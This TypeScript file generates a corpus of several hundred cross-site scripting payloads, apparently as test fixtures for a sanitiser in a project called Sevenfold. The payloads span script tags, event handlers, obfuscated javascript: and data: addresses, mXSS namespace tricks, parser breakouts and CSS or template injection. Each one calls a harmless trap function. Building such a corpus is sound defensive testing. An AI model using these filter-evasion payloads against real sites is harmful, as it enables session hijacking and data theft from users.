// A corpus of known cross-site scripting payloads, written for Sevenfold from the families the
// public lists describe (PortSwigger's cheat sheet, OWASP's filter evasion page, mXSS write-ups):
// script tags, event handlers, dangerous URLs in many spellings, srcdoc frames, SVG and MathML
// namespace confusion, parser breakouts, CSS, template syntax, escapes and prototype-ish keys.
// Each payload calls the page's trap with its own id (`__x('x042')`, or `alert('x042')`), so a run
// can tell which one ran. Nothing is fetched: every URL is made up or inline.

export interface Payload {
  id: string
  family: string
  /** The hostile text itself, pasted, stored as a title or body, or used as a link address. */
  text: string
}

type Make = (call: string, id: string) => string

// ---------- the dangerous address, spelled many ways ----------

const entities = (s: string, radix: 10 | 16, pad = 0) =>
  [...s].map((c) => (radix === 16 ? `&#x${c.charCodeAt(0).toString(16).padStart(pad, '0')};` : `&#${String(c.charCodeAt(0)).padStart(pad, '0')};`)).join('')
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64')

/** `javascript:`-like addresses: each takes the call and gives a URL (raw, as it would sit in an attribute). */
const SCHEMES: Make[] = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => ` javascript:${c}`,
  (c) => `\tjavascript:${c}`,
  (c) => `java\tscript:${c}`,
  (c) => `java\nscript:${c}`,
  (c) => `java\rscript:${c}`,
  (c) => `java&#x09;script:${c}`,
  (c) => `jav&#x0A;ascript:${c}`,
  (c) => `\u0001javascript:${c}`,
  (c) => entities(`javascript:${c}`, 10),
  (c) => entities(`javascript:${c}`, 16),
  (c) => entities(`javascript:${c}`, 10, 7),
  (c) => entities('javascript', 16, 4) + `:${c}`,
  (c) => `javascript&colon;${c}`,
  (c) => `javascript&#58;${c}`,
  (c) => `javascript://%0a${c}`,
  (c) => `javascript:${encodeURIComponent(c).replace(/_/g, '%5F')}`,
  (c) => `javascript:void(0);${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `data:text/html;base64,${b64(`<script>${c}</script>`)}`,
  (c) => `DaTa:text/html;charset=utf-8,%3Cscript%3E${encodeURIComponent(c)}%3C/script%3E`,
  (c) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`,
  (_c, id) => `vbscript:msgbox("${id}")`,
  (_c, id) => `VbScRiPt:MsgBox("${id}")`,
  (c) => `livescript:${c}`,
  (_c, id) => `javascript:alert('${id}')`,
  (c) => `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${c}//'>`
]

/** Elements that take an address and could follow or load it. */
const URL_SINKS: Array<(url: string) => string> = [
  (u) => `<a href="${u}">open me</a>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>send</button></form>`,
  (u) => `<svg><a xlink:href="${u}"><text x="5" y="15">tap</text></a></svg>`,
  (u) => `<object data="${u}"></object>`
]

// ---------- handlers on many elements ----------

const HANDLER_TAGS: Make[] = [
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<IMG SRC=x OnErRoR="${c}">`,
  (c) => `<img/src=x/onerror=${c}>`,
  (c) => `<img src=x onerror="javascript:${c}">`,
  (c) => `<img src="x" onerror="${entities(c, 16)}">`,
  (c) => `<img src=x onerror=${c}//`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg/onload=${c}>`,
  (c) => `<svg><g onload=${c}></g></svg>`,
  (c) => `<body onload=${c}>`,
  (c) => `<body onpageshow="${c}">`,
  (c) => `<details open ontoggle=${c}><summary>s</summary></details>`,
  (c) => `<details/open/ontoggle="${c}">`,
  (c) => `<video><source onerror="${c}"></video>`,
  (c) => `<video src=x onerror=${c}></video>`,
  (c) => `<video poster=javascript:${c}></video>`,
  (c) => `<audio src=x onerror=${c}></audio>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<input type="image" src=x onerror="${c}">`,
  (c) => `<select autofocus onfocus=${c}></select>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<keygen autofocus onfocus=${c}>`,
  (c) => `<button autofocus onfocus=${c}>b</button>`,
  (c) => `<iframe onload=${c}></iframe>`,
  (c) => `<object data=x onerror=${c}></object>`,
  (c) => `<marquee onstart=${c}>m</marquee>`,
  (c) => `<a href="https://example.org/" onclick="${c}" onmouseover="${c}">hover</a>`,
  (c) => `<div onpointerenter="${c}" onmouseenter="${c}">pointer</div>`,
  (c) => `<div draggable="true" ondragstart="${c}">drag</div>`,
  (c) => `<p contenteditable onfocus="${c}" autofocus>edit</p>`,
  (c) => `<style onload=${c}></style>`,
  (c) => `<link rel=stylesheet href=x onerror=${c}>`,
  (c) => `<frameset onload=${c}>`,
  (c) => `<table background="javascript:${c}"><tr><td>t</td></tr></table>`,
  (c) => `<form><button formaction="javascript:${c}">go</button></form>`,
  (c) => `<isindex action="javascript:${c}" type=image>`,
  (c) => `<img src=x onerror=eval(atob('${b64(c)}'))>`,
  (_c, id) => `<img src=x onerror=\\u005f\\u005fx('${id}')>`,
  (_c, id) => `<img src=x onerror=window[\`__x\`]\`${id}\`>`,
  (_c, id) => `<svg onload=__x&lpar;'${id}'&rpar;>`,
  (_c, id) => `<svg onload=top[/__x/.source]('${id}')>`,
  (_c, id) => `<img src="x:alert('${id}')" onerror="eval(src)">`,
  (c) => `<img src=x onerror=setTimeout('${c}')>`,
  (c) => `<img src=x onerror=[].constructor.constructor('${c}')()>`,
  (c) => `<img src=x onerror=import('data:text/javascript,${c}')>`,
  (c) => `<img src="x\` onerror=${c}\`>`,
  (c) => `<a href="x"title="\`x"onmouseover=${c}>t</a>`,
  (c) => `<img src=\`x\`onerror=${c}>`,
  (c) => `<img """><script>${c}</script>">`,
  (c) => `<img src= onerror="${c}">`
]

// ---------- script tags ----------

const SCRIPTS: Make[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<ScRiPt>${c}</sCrIpT>`,
  (c) => `<script type="module">${c}</script>`,
  (c) => `<script src="data:text/javascript,${c}"></script>`,
  (c) => `<script>/*</script>*/${c}</script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<script/xss>${c}</script>`,
  (c) => `<<script>${c}//<</script>`,
  (_c, id) => `<script>\\u005f\\u005fx('${id}')</script>`,
  (c) => `<script>eval('${c}')</script>`,
  (c) => `<script>setTimeout("${c}")</script>`,
  (_c, id) => `<script>window['__x']('${id}')</script>`,
  (c) => `<script>[].constructor.constructor("${c}")()</script>`,
  (c) => `<script>\`\${${c}}\`</script>`,
  (_c, id) => `<script>onerror=__x;throw '${id}'</script>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:text/javascript,${c}"/></svg>`,
  (c) => `<math><script>${c}</script></math>`,
  (c) => `<script>\n<!--\n${c}\n//-->\n</script>`,
  (c) => `<SCRIPT SRC=//x.invalid/${encodeURIComponent(c)}></SCRIPT>`
]

// ---------- frames, namespaces and parser tricks ----------

const STRUCTURES: Make[] = [
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe srcdoc="&lt;img src=x onerror=parent.${c}&gt;"></iframe>`,
  (c) => `<iframe srcdoc='<svg onload="parent.${c}">'></iframe>`,
  (c) => `<iframe src="data:text/html;base64,${b64(`<script>parent.${c}</script>`)}"></iframe>`,
  (c) => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`)}">`,
  (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  (c) => `<base href="javascript:${c}//"><a href="/x">rel</a>`,
  (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}></style></mglyph></table></mtext></math>`,
  (c) => `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=${c}>">`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><set attributeName=onmouseover to=${c}>`,
  (c) => `<svg><a><animate attributeName=href values=javascript:${c} /><text x=20 y=20>click</text></a></svg>`,
  (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
  (c) => `<svg><image href=x onerror=${c} /></svg>`,
  (c) => `<svg><discard onbegin=${c} />`,
  (c) => `<math href="javascript:${c}">m</math>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<style><style/><img src=x onerror=${c}>`,
  (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>">`,
  (c) => `<title><img title="</title><img src=x onerror=${c}>">`,
  (c) => `<xmp><img title="</xmp><img src=x onerror=${c}>">`,
  (c) => `<iframe><img title="</iframe><img src=x onerror=${c}>">`,
  (c) => `<noembed><img title="</noembed><img src=x onerror=${c}>">`,
  (c) => `<noframes><img title="</noframes><img src=x onerror=${c}>">`,
  (c) => `<plaintext><img src=x onerror=${c}>`,
  (c) => `<template><img src=x onerror=${c}></template>`,
  (c) => `<!--<img src="--><img src=x onerror=${c}//">`,
  (c) => `<![CDATA[><img src=x onerror=${c}>]]>`,
  (c) => `<!-- --!><img src=x onerror=${c}>-->`,
  (c) => `<?xml version="1.0"?><img src=x onerror=${c}>`,
  (c) => `<div id="d"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${c}</x:script></div>`,
  (c) => `<table><td><select><svg><img src=x onerror=${c}></svg></select></td></table>`,
  (c) => `<a id=x tabindex=1 onfocus=${c}></a>`,
  (c) => `<object type="text/x-scriptlet" data="javascript:${c}"></object>`
]

// ---------- breakouts from attributes, styles, scripts and text ----------

const BREAKOUTS: Make[] = [
  (c) => `</style><script>${c}</script>`,
  (c) => `</script><script>${c}</script>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `</noscript><img src=x onerror=${c}>`,
  (c) => `"><script>${c}</script>`,
  (c) => `'><img src=x onerror=${c}>`,
  (c) => `" onmouseover="${c}`,
  (c) => `' autofocus onfocus='${c}`,
  (c) => `--><script>${c}</script>`,
  (c) => `]]><script>${c}</script>`,
  (c) => `</p></div></body></html><script>${c}</script>`,
  (c) => `<div style="background:url(javascript:${c})">css url</div>`,
  (c) => `<div style="width:expression(${c})">css expression</div>`,
  (c) => `<style>@import 'javascript:${c}';</style>`,
  (c) => `<style>body{background:url("javascript:${c}")}</style>`,
  (c) => `<link rel=stylesheet href="javascript:${c}">`,
  (c) => `<div style="behavior:url(#default#time2)" onbegin="${c}">behaviour</div>`,
  (c) => `<style>*{-moz-binding:url("data:text/xml,${encodeURIComponent(c)}")}</style>`,
  (c) => `red; } body { background: url(javascript:${c}) } .x {`,
  (c) => `</style><style>@import url(javascript:${c});</style>`,
  (c) => `\\";${c};//`,
  (c) => `';${c};//`,
  (c) => `</script><svg onload=${c}>`,
  (c) => `\${${c}}`,
  (c) => `\`\${${c}}\``,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `{{$on.constructor('${c}')()}}`,
  (c) => `#{${c}}`,
  (c) => `<%= ${c} %>`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c) => `\\x3cscript\\x3e${c}\\x3c/script\\x3e`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
  (c) => `&amp;lt;img src=x onerror=${c}&amp;gt;`,
  (c) => `%3Cscript%3E${encodeURIComponent(c)}%3C%2Fscript%3E`,
  (c) => `\uFF1Cscript\uFF1E${c}\uFF1C/script\uFF1E`,
  (c) => `<scr\u0130pt>${c}</scr\u0130pt>`,
  (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  (c) => `\u202E<img src=x onerror=${c}>`,
  (c) => `<img src=x onerror=${c}>\u0000`,
  (c) => `[click](javascript:${c})`,
  (c) => `<javascript:${c}>`,
  (c) => `![x](x" onerror="${c})`
]

// ---------- prototype-ish and JSON-ish strings ----------

const PROTOTYPE: Make[] = [
  (c) => `__proto__ <img src=x onerror=${c}>`,
  (c) => `{"__proto__":{"innerHTML":"<img src=x onerror=${c}>"}}`,
  (c) => `constructor[prototype][srcdoc]=<script>${c}</script>`,
  (c) => `{"constructor":{"prototype":{"href":"javascript:${c}"}}}`,
  (c) => `toString valueOf hasOwnProperty __defineGetter__ <svg onload=${c}>`,
  (c) => `[object Object]<script>${c}</script>`,
  (c) => `__proto__[onload]=${c}`,
  (c) => `{"type":"doc","content":[{"type":"script","text":"${c}"}]}`
]

const FAMILIES: Array<[family: string, makes: Make[]]> = [
  ['script tag', SCRIPTS],
  ['event handler', HANDLER_TAGS],
  ['frame, namespace, mXSS', STRUCTURES],
  ['breakout, CSS, template, escape', BREAKOUTS],
  ['prototype-ish', PROTOTYPE]
]

function build(): Payload[] {
  const out: Payload[] = []
  const add = (family: string, make: Make) => {
    const id = `x${String(out.length + 1).padStart(3, '0')}`
    out.push({ id, family, text: make(`__x('${id}')`, id) })
  }
  for (const [family, makes] of FAMILIES) for (const make of makes) add(family, make)
  for (const scheme of SCHEMES) {
    add('dangerous address (bare)', scheme)
    for (const sink of URL_SINKS) add('dangerous address in an element', (call, id) => sink(scheme(call, id)))
  }
  return out
}

/** Every payload, in a fixed order with ids x001…; a few hundred. */
export const PAYLOADS: readonly Payload[] = build()

/** The addresses alone (for link marks made through the backend). */
export const HOSTILE_HREFS: readonly Payload[] = PAYLOADS.filter((p) => p.family === 'dangerous address (bare)')

/** A seeded, stable sample of `count` payloads (all of them when count ≥ the corpus). */
export function sample(payloads: readonly Payload[], count: number, seed = 7): Payload[] {
  if (count >= payloads.length) return [...payloads]
  let state = seed >>> 0
  const next = () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return state / 2 ** 32
  }
  const order = payloads.map((p) => ({ p, k: next() })).sort((a, b) => a.k - b.k)
  return order
    .slice(0, count)
    .map(({ p }) => p)
    .sort((a, b) => a.id.localeCompare(b.id))
}
